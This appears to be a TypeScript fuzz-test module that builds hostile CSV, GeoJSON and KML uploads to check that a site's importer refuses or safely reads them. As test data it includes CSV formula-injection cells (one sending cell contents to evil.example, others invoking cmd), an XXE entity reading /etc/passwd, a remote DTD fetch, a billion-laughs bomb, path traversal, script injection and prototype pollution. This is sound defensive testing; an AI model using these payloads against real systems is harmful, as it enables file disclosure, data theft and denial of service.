import fc from "fast-check";
import sharp from "sharp";
import type { HostileFile } from "./hostile-images";
import { deeplyNested, nastyNumber, nastyString, plausible } from "./hostile-values";

/** An import upload's file: its bytes, the type it claims, its name, and a label for the failure lines. */
type ImportFile = HostileFile;

/** Cells a spreadsheet may hold that a program reading the export could run (CSV injection). */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1",
  "=cmd|'/C calc'!A0",
];

/** The columns a hostile row fills; the rest of the export's columns are left out (read as empty). */
const COLUMNS = ["external_id", "slug", "kind", "title_en", "title_ru", "date", "latitude", "longitude", "country", "tags", "sources"];

const cell = fc.oneof(
  { weight: 4, arbitrary: plausible.text },
  { weight: 2, arbitrary: fc.constantFrom(...FORMULAS) },
  { weight: 1, arbitrary: nastyString },
);

/** One row of a hostile CSV: each cell plausible (so the row reaches the editor's checks) or hostile. */
const csvRow = fc.record({
  external_id: fc.oneof(
    plausible.slug.map((slug) => `trust-fuzz-import-${slug}`),
    nastyString,
  ),
  slug: fc.oneof(
    fc.constant(""),
    plausible.slug.map((slug) => `trust-fuzz-${slug}`),
    nastyString,
  ),
  kind: fc.constantFrom("place", "memorial", "event", "x", ""),
  title_en: cell,
  title_ru: cell,
  date: fc.oneof(plausible.date, nastyString),
  latitude: fc.oneof(plausible.latitude, nastyNumber).map(String),
  longitude: fc.oneof(plausible.longitude, nastyNumber).map(String),
  country: fc.constantFrom("RU", "DE", "XX", ""),
  tags: fc.constantFrom("", "war", "no-such-theme", "a,b"),
  sources: fc.constantFrom("", "https://example.org/x", "javascript:alert(1)", "not a url"),
});

/** A cell as CSV writes it: quoted, with its quotes doubled. */
const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;

function csvText(rows: Record<string, string>[]): string {
  return [COLUMNS.join(","), ...rows.map((row) => COLUMNS.map((column) => quoted(row[column] ?? "")).join(","))].join("\r\n");
}

/** A small CSV of hostile rows, as UTF-8 (the only encoding the importer reads). */
export const hostileCsv: fc.Arbitrary<ImportFile> = fc.array(csvRow, { minLength: 1, maxLength: 5 }).map((rows) => ({
  label: `csv of ${rows.length} hostile rows`,
  bytes: Buffer.from(csvText(rows)),
  type: "text/csv",
  name: "hostile.csv",
}));

/** A small GeoJSON FeatureCollection of hostile features: odd geometries, coordinates past every edge, properties of every type. */
export const hostileGeojson: fc.Arbitrary<ImportFile> = fc
  .array(
    fc.record({
      type: fc.constantFrom("Feature", "Feature", "feature", "Point"),
      id: fc.oneof(
        plausible.slug.map((slug) => `trust-fuzz-import-${slug}`),
        nastyString,
        nastyNumber,
      ),
      geometry: fc.oneof(
        fc.constant(null),
        fc.tuple(fc.oneof(plausible.longitude, nastyNumber), fc.oneof(plausible.latitude, nastyNumber)).map((coordinates) => ({
          type: "Point",
          coordinates,
        })),
        fc.constantFrom(
          { type: "Point", coordinates: [] },
          { type: "Point", coordinates: [[1, 2]] },
          { type: "Point", coordinates: "1,2" },
          {
            type: "LineString",
            coordinates: [
              [0, 0],
              [1, 1],
            ],
          },
          { type: "GeometryCollection", geometries: [{ type: "Point", coordinates: [1, 2] }] },
        ),
      ),
      properties: fc.oneof(
        fc.record(
          {
            title_en: cell,
            kind: fc.constantFrom("place", "memorial", "x"),
            date: fc.oneof(plausible.date, nastyString),
            slug: fc.oneof(
              plausible.slug.map((slug) => `trust-fuzz-${slug}`),
              nastyString,
            ),
            tags: fc.oneof(fc.constant(["war"]), fc.constant("war"), fc.constant({ a: 1 })),
          },
          { requiredKeys: [] },
        ),
        fc.constantFrom(null, [], "properties", { __proto__: { title_en: "proto" } }),
      ),
    }),
    { minLength: 1, maxLength: 5 },
  )
  .map((features) => ({
    label: `geojson of ${features.length} hostile features`,
    bytes: Buffer.from(JSON.stringify({ type: "FeatureCollection", features })),
    type: "application/geo+json",
    name: "hostile.geojson",
  }));

const kmlDocument = (placemarks: string, prologue = "") =>
  `<?xml version="1.0" encoding="UTF-8"?>${prologue}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>${placemarks}</Document></kml>`;

const placemark = (name: string, coordinates: string) =>
  `<Placemark id="trust-fuzz-import-kml"><name>${name}</name><Point><coordinates>${coordinates}</coordinates></Point></Placemark>`;

/** Text as XML character data: markup escaped, and the characters XML 1.0 cannot hold at all left out. */
function xmlText(text: string): string {
  const allowed = (code: number) =>
    code === 0x9 ||
    code === 0xa ||
    code === 0xd ||
    (code >= 0x20 && code <= 0xd7ff) ||
    (code >= 0xe000 && code <= 0xfffd) ||
    code >= 0x10000;
  return [...text]
    .filter((char) => allowed(char.codePointAt(0)!))
    .join("")
    .replace(/[&<>]/g, (char) => `&#${char.charCodeAt(0)};`);
}

/** A small KML of one placemark with a hostile name and coordinates (escaped, so the XML still parses). */
export const hostileKml: fc.Arbitrary<ImportFile> = fc
  .tuple(cell, fc.oneof(plausible.longitude, nastyNumber), fc.oneof(plausible.latitude, nastyNumber))
  .map(([name, lng, lat]) => ({
    label: "kml of a hostile placemark",
    bytes: Buffer.from(kmlDocument(placemark(xmlText(name), `${lng},${lat}`))),
    type: "application/vnd.google-earth.kml+xml",
    name: "hostile.kml",
  }));

/** Many lines of one plausible row: a file near a real collection's size. */
function manyRows(count: number): string {
  const lines = [COLUMNS.join(",")];
  for (let i = 0; i < count; i++) {
    lines.push(`trust-fuzz-import-bulk-${i},,memorial,Bulk row ${i},,19${40 + (i % 60)},${(i % 170) - 85}.5,${(i % 340) - 170}.25,RU,,`);
  }
  return lines.join("\n");
}

const file = (label: string, text: string | Buffer, name: string, type = "text/csv"): ImportFile => ({
  label,
  bytes: typeof text === "string" ? Buffer.from(text) : text,
  type,
  name,
});

/**
 * Files that are not what they claim, in the wrong encoding, past the size limit, or built to make a
 * parser work without end: each must be refused whole (413, 415, 422) or read as rows with a report.
 * Made once per run (the large ones are megabytes).
 */
export async function hostileImportFiles(): Promise<ImportFile[]> {
  const honest = csvText([
    {
      external_id: "trust-fuzz-import-honest-1",
      kind: "memorial",
      title_en: "Honest row",
      date: "1975",
      latitude: "55.75",
      longitude: "37.61",
    },
    { external_id: "trust-fuzz-import-honest-2", kind: "event", title_en: "Honest row 2", date: "1941-10" },
  ]);
  const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 0, g: 0, b: 0 } } })
    .png()
    .toBuffer();
  const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("");
  const geojsonPoint = (coordinates: string) =>
    `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"title_en":"x"},"geometry":{"type":"Point","coordinates":${coordinates}}}]}`;
  return [
    file("honest csv", honest, "honest.csv"),
    file("honest csv with a byte order mark", `\uFEFF${honest}`, "bom.csv"),
    file("csv as UTF-16 with a byte order mark", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(honest, "utf16le")]), "utf16.csv"),
    file("csv as UTF-16 without a byte order mark", Buffer.from(honest, "utf16le"), "utf16-nobom.csv"),
    file(
      "csv in Windows-1251",
      Buffer.from([...Buffer.from("title_en,title_ru\nMoscow,"), 0xcc, 0xee, 0xf1, 0xea, 0xe2, 0xe0]),
      "cp1251.csv",
    ),
    file("csv in Latin-1", Buffer.from("title_en\nM\u00fcnchen\n", "latin1"), "latin1.csv"),
    file("csv with NUL bytes", `title_en,slug\nA\u0000B,trust-fuzz-nul\n`, "nul.csv"),
    file("csv with a lone surrogate's bytes", Buffer.from([...Buffer.from("title_en\n"), 0xed, 0xa0, 0x80, 0x0a]), "surrogate.csv"),
    file("png named .csv", png, "photo.csv", "text/csv"),
    file("png named .csv, claimed as an image", png, "photo.csv", "image/png"),
    file("geojson named .csv", geojsonPoint("[37.6,55.7]"), "lie.csv"),
    file("csv named .kml", honest, "lie.kml", "application/vnd.google-earth.kml+xml"),
    file("kml named .geojson", kmlDocument(placemark("x", "37.6,55.7")), "lie.geojson", "application/geo+json"),
    file("csv named .exe", honest, "run.exe", "application/octet-stream"),
    file("no extension", honest, "noname", ""),
    file("name with traversal", honest, "../../../etc/passwd.csv"),
    file("name with NUL", honest, "a\u0000.csv"),
    file("empty file", "", "empty.csv"),
    file("header only", COLUMNS.join(","), "header.csv"),
    file("no title column", "a,b,c\n1,2,3\n", "notitle.csv"),
    file("an unclosed quote across the file", `title_en,slug\n"${"a,".repeat(100_000)}`, "unclosed.csv"),
    file("one long line", `title_en\n${"x".repeat(5 * 1024 * 1024)}`, "longline.csv"),
    file(
      "10,000 columns",
      `${Array.from({ length: 10_000 }, (_, i) => (i === 0 ? "title_en" : `c${i}`)).join(",")}\n${"x,".repeat(9_999)}x\n`,
      "wide.csv",
    ),
    file("rows of the wrong length", `title_en,slug,kind\nA\nB,trust-fuzz-b,place,extra,cells\n`, "ragged.csv"),
    file("2,000 plausible rows", manyRows(2_000), "bulk.csv"),
    file(
      "formula cells",
      csvText(FORMULAS.map((formula, i) => ({ external_id: `trust-fuzz-import-formula-${i}`, title_en: formula }))),
      "formulas.csv",
    ),
    file("26 MB file (past the 25 MB limit)", Buffer.concat([Buffer.from(honest), Buffer.alloc(26 * 1024 * 1024, 0x20)]), "big.csv"),
    file("50 MB file", Buffer.concat([Buffer.from(honest), Buffer.alloc(50 * 1024 * 1024, 0x20)]), "huge.csv"),
    file("geojson nested 100,000 deep", geojsonPoint(deeplyNested(100_000, "array")), "deep.geojson", "application/geo+json"),
    file("geojson object nested 100,000 deep", deeplyNested(100_000, "object"), "deep-object.geojson", "application/geo+json"),
    file("geojson with huge coordinates", geojsonPoint("[1e308,-1e308]"), "huge-coordinates.geojson", "application/geo+json"),
    file("geojson with coordinates of 400 digits", geojsonPoint(`[${"9".repeat(400)},1]`), "digits.geojson", "application/geo+json"),
    file("geojson that is not JSON", "{ type: FeatureCollection ", "broken.geojson", "application/geo+json"),
    file("geojson of the wrong type", '{"type":"Topology","objects":{}}', "topology.geojson", "application/geo+json"),
    file("geojson array of 100,000 nulls", `[${"null,".repeat(99_999)}null]`, "nulls.geojson", "application/geo+json"),
    file(
      "geojson with __proto__ properties",
      '{"type":"Feature","properties":{"__proto__":{"title_en":"polluted"},"title_en":"x"},"geometry":null}',
      "proto.geojson",
      "application/geo+json",
    ),
    file(
      "kml with an external entity (XXE)",
      kmlDocument(placemark("&xxe;", "37.6,55.7"), '<!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
      "xxe.kml",
      "application/vnd.google-earth.kml+xml",
    ),
    file(
      "kml with a parameter entity",
      kmlDocument(placemark("x", "37.6,55.7"), '<!DOCTYPE kml [<!ENTITY % remote SYSTEM "http://127.0.0.1:1/evil.dtd">%remote;]>'),
      "pe.kml",
      "application/vnd.google-earth.kml+xml",
    ),
    file(
      "kml billion laughs",
      kmlDocument(placemark("&lol10;", "37.6,55.7"), `<!DOCTYPE kml [<!ENTITY lol0 "lol">${laughs}]>`),
      "laughs.kml",
      "application/vnd.google-earth.kml+xml",
    ),
    file(
      "kml nested 100,000 deep",
      kmlDocument(`${"<Folder>".repeat(100_000)}${placemark("deep", "1,2")}${"</Folder>".repeat(100_000)}`),
      "deep.kml",
      "application/vnd.google-earth.kml+xml",
    ),
    file("kml that is not XML", "<kml><Placemark><name>x</Placemark>", "broken.kml", "application/vnd.google-earth.kml+xml"),
    file(
      "xml that is not KML",
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
      "svg.kml",
      "application/vnd.google-earth.kml+xml",
    ),
    file(
      "kml with 20,000 placemarks",
      kmlDocument(placemark("many", "37.6,55.7").repeat(20_000)),
      "many.kml",
      "application/vnd.google-earth.kml+xml",
    ),
    file(
      "kml with a CDATA script",
      kmlDocument(placemark("<![CDATA[<script>alert(1)</script>]]>", "37.6,55.7")),
      "cdata.kml",
      "application/vnd.google-earth.kml+xml",
    ),
  ];
}
